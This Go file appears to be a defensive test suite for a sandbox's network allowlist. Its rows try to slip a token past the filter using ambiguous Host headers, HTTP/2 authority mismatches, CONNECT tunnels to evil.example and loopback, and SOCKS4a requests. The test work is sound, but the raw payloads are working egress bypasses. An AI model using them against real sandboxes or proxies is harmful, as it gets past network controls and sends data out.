//go:build linux

package gauntlet

import (
	"bytes"
	"slices"

	"golang.org/x/net/http2/hpack"
)

// httpRows lie in the head of an HTTP request.
func httpRows() []Row {
	ambiguous := func(id, vector, source, head string) Row {
		return Row{
			ID: "names/" + id, Vector: vector, Right: "servers differ in which host they see: denied", Source: source, Rules: shopOnly, Lifted: []string{"--allow", "shop.example", "--allow", Shop.String() + ":80"},
			Attack: func(a *Attacker) error { return a.sayAtShop(80, []byte(head+"X-Token: "+a.Token+"\r\n\r\n")) },
			Harm:   Heard, Record: []string{malformed},
		}
	}
	return []Row{
		{
			ID: "names/host-lie", Vector: "an allowed name in the Host line of a request to an unlisted address", Right: "denied, nothing is dialled",
			Source: "microsandbox PR #694", Rules: shopOnly, Lifted: strangerToo, Prepare: Stranger,
			Attack: func(a *Attacker) error {
				c, err := dial("tcp", a.stranger(80))
				if err != nil {
					return err
				}
				defer c.Close()
				return say(c, []byte("GET /"+a.Token+" HTTP/1.1\r\nHost: shop.example\r\n\r\n"))
			},
			Harm: Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=no-evidence http_host=shop.example"},
		},
		{
			ID: "names/host-sibling", Vector: "another name in the Host line of a request to an address that is shared", Right: "denied",
			Source: "inspect_k8s_sandbox PR #208, claude-code #40213", Rules: shopOnly, Lifted: siblingToo,
			Attack: func(a *Attacker) error {
				return a.sayAtShop(80, []byte("GET /"+a.Token+" HTTP/1.1\r\nhOST:sibling.example\r\n\r\n"))
			},
			Harm: Heard, Record: []string{mismatch + " http_host=sibling.example"},
		},
		ambiguous("host-two", "two Host lines", "HTTP Garden", "GET / HTTP/1.1\r\nHost: shop.example\r\nHost: sibling.example\r\n"),
		ambiguous("host-absolute", "a target in absolute form against the Host line", "RFC 9112 3.2.2", "GET http://sibling.example/ HTTP/1.1\r\nHost: shop.example\r\n"),
		ambiguous("host-folded", "a Host line that goes on in a second one", "HTTP Garden, RFC 9112 5.2", "GET / HTTP/1.1\r\nHost: shop.example\r\nX: y\r\n Host: sibling.example\r\n"),
		ambiguous("host-bare-lf", "a bare LF that hides a Host line in another line", "HTTP Garden", "GET / HTTP/1.1\r\nX: y\nHost: sibling.example\r\nHost: shop.example\r\n"),
		ambiguous("host-bare-cr", "a bare CR that ends a line for some", "HTTP Garden", "GET / HTTP/1.1\r\nHost: shop.example\rHost: sibling.example\r\n"),
		ambiguous("host-userinfo", "the allowed name as the user of another", "security.md 2.1", "GET / HTTP/1.1\r\nHost: shop.example@sibling.example\r\n"),
		ambiguous("host-space", "a space before the colon of the second Host line", "HTTP Garden", "GET / HTTP/1.1\r\nHost: shop.example\r\nHost : sibling.example\r\n"),
		{
			ID: "names/h2c-authority", Vector: "HTTP/2 in plain text with another authority", Right: "the header block is decoded and judged",
			Source: "security.md 2.3", Rules: shopOnly, Lifted: siblingToo,
			Attack: func(a *Attacker) error {
				return a.sayAtShop(80, h2c(a.Token, [2]string{":method", "GET"}, [2]string{":scheme", "http"}, [2]string{":path", "/"}, [2]string{":authority", "sibling.example"}))
			},
			Harm: Heard, Record: []string{mismatch + " http_host=sibling.example"},
		},
		{
			ID: "names/h2c-host", Vector: "an authority and a Host field that differ", Right: "denied",
			Source: "RFC 9113 8.3.1", Rules: shopOnly, Lifted: shopAddressToo,
			Attack: func(a *Attacker) error {
				return a.sayAtShop(80, h2c(a.Token, [2]string{":method", "GET"}, [2]string{":scheme", "http"}, [2]string{":path", "/"}, [2]string{":authority", "shop.example"}, [2]string{"host", "sibling.example"}))
			},
			Harm: Heard, Record: []string{malformed},
		},
	}
}

// connectRows ask a proxy that is allowed to go where they may not.
func connectRows() []Row {
	proxy := []string{"--allow", "shop.example:3128"}
	return []Row{
		{
			ID: "names/connect", Vector: "CONNECT to an unlisted name through an allowed host's proxy", Right: "where the request leads is what is judged",
			Source: "claude-code #87381", Rules: proxy, Lifted: []string{"--allow", "shop.example:3128", "--allow", "evil.example:443"},
			Attack: func(a *Attacker) error { return a.throughProxy("CONNECT evil.example:443 HTTP/1.1\r\n\r\n") },
			Harm:   Heard, Record: []string{mismatch + " http_host=evil.example"},
		},
		{
			ID: "names/connect-address", Vector: "CONNECT to an address through an allowed host's proxy", Right: "an address needs an address rule",
			Source: "claude-code #87381", Rules: proxy, Lifted: []string{"--allow", "shop.example:3128", "--allow", Evil.String() + ":443"},
			Attack: func(a *Attacker) error { return a.throughProxy("CONNECT 203.0.113.66:443 HTTP/1.1\r\n\r\n") },
			Harm:   Heard, Record: []string{mismatch},
		},
		{
			ID: "names/connect-host", Vector: "CONNECT to one host with the Host line of another", Right: "proxies differ in which they dial: denied",
			Source: "RFC 9110 9.3.6", Rules: proxy, Lifted: []string{"--allow", Shop.String() + ":3128"},
			Attack: func(a *Attacker) error {
				return a.throughProxy("CONNECT shop.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
			},
			Harm: Heard, Record: []string{malformed},
		},
		{
			ID: "names/connect-h2", Vector: "CONNECT over HTTP/2 in plain text", Right: "the authority is judged there as well",
			Source: "security.md 2.3", Rules: proxy, Lifted: []string{"--allow", "shop.example:3128", "--allow", "evil.example:443"},
			Attack: func(a *Attacker) error {
				return a.sayAtShop(3128, h2c(a.Token, [2]string{":method", "CONNECT"}, [2]string{":authority", "evil.example:443"}))
			},
			Harm: Heard, Record: []string{mismatch + " http_host=evil.example"},
		},
		{
			ID: "names/connect-loopback", Vector: "CONNECT to the proxy's own loopback under a rule for everything public", Right: "a guarded address in the request needs its own rule",
			Source: "CVE-2021-4024 and its kin", Rules: append(slices.Clone(proxy), "--allow", "@public:443"), Lifted: []string{"--allow", "shop.example:3128", "--allow", "127.0.0.1:443"},
			Attack: func(a *Attacker) error { return a.throughProxy("CONNECT 127.0.0.1:443 HTTP/1.1\r\n\r\n") },
			Harm:   Heard, Record: []string{mismatch},
		},
		{
			ID: "names/socks", Vector: "SOCKS 4a to an unlisted address with the name of an allowed host in the request", Right: "what a proxy is asked for is no name of the proxy",
			Source: "sandbox-runtime, OpenShell #1498", Rules: shopOnly, Lifted: strangerToo, Prepare: Stranger,
			Attack: func(a *Attacker) error {
				c, err := dial("tcp", a.stranger(443))
				if err != nil {
					return err
				}
				defer c.Close()
				return say(c, []byte("\x04\x01\x01\xbb\x00\x00\x00\x01"+a.Token+"\x00shop.example\x00"))
			},
			Harm: Reached, Record: []string{"network-connect verdict=deny dest_ip={stranger} reason=default"},
		},
	}
}

// throughProxy asks the proxy of an allowed host for a tunnel and says the token through it.
func (a *Attacker) throughProxy(request string) error {
	c, err := a.atShop(3128)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := say(c, []byte(request)); err != nil {
		return err
	}
	_, err = c.Write([]byte(a.Token))
	return err
}

// h2c is the beginning of an HTTP/2 connection with prior knowledge: preface, SETTINGS, one request with these octets in it.
func h2c(data string, fields ...[2]string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, f := range fields {
		e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	frame := func(kind, flags, stream byte, payload []byte) []byte {
		return slices.Concat(vec24(payload...)[:3], []byte{kind, flags, 0, 0, 0, stream}, payload)
	}
	return slices.Concat([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, nil), frame(1, 4, 1, block.Bytes()), frame(0, 1, 1, []byte(data)))
}
